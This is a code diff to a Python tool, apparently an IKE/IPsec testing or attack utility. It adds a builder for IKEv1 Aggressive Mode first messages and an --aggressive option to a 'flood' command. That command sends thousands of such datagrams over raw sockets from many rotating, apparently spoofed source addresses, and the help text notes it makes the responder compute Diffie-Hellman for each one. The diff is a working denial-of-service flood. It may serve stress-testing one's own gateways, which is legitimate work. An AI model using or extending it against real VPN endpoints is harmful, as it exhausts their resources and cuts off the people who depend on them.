@@ -87,6 +87,14 @@ def mm1(icky=None, auth=1, group=14):
     return message(icky, bytes(8), EX_MAIN, [(NP_SA, sa_body([transform(1, auth=auth, group=group)]))])
 
 
+def am1(icky=None, group=14, ident=b"a.h3n.example"):
+    """Aggressive Mode message 1: SA, KE (modp2048-sized), nonce, ID (fqdn)."""
+    icky = icky or os.urandom(8)
+    return message(icky, bytes(8), EX_AGGR, [(NP_SA, sa_body([transform(1, group=group)])),
+                                            (NP_KE, os.urandom(256)), (NP_NONCE, os.urandom(16)),
+                                            (NP_ID, struct.pack("!BBH", 2, 17, 500) + ident)])
+
+
 def delete_body(protocol, spis, spi_size):
     return struct.pack("!IBBH", 1, protocol, spi_size, len(spis)) + b"".join(spis)
 
@@ -429,14 +437,15 @@ def cmd_flood(a):
         if time.monotonic() > deadline + 5:
             break
         src = hosts[i % len(hosts)]
-        raw.send(src, 500, a.dst, a.port, mm1())
+        raw.send(src, 500, a.dst, a.port, am1() if a.aggressive else mm1())
         sent += 1
         target = start + (i + 1) * gap
         d = target - time.monotonic()
         if d > 0:
             time.sleep(d)
     el = time.monotonic() - start
-    print(f"flood: {sent} Main Mode message-1 datagrams from {len(hosts)} source addresses in {el:.1f} s")
+    kind = "Aggressive" if a.aggressive else "Main"
+    print(f"flood: {sent} {kind} Mode message-1 datagrams from {len(hosts)} source addresses in {el:.1f} s")
 
 
 def main():
@@ -464,6 +473,7 @@ def main():
     f.add_argument("--n-sources", type=int, default=1000)
     f.add_argument("--count", type=int, default=5000)
     f.add_argument("--seconds", type=float, default=10.0)
+    f.add_argument("--aggressive", action="store_true", help="Aggressive Mode first messages (the responder computes DH for each)")
     sub.add_parser("list-cves")
     a = p.parse_args()
     if a.cmd == "corpus":
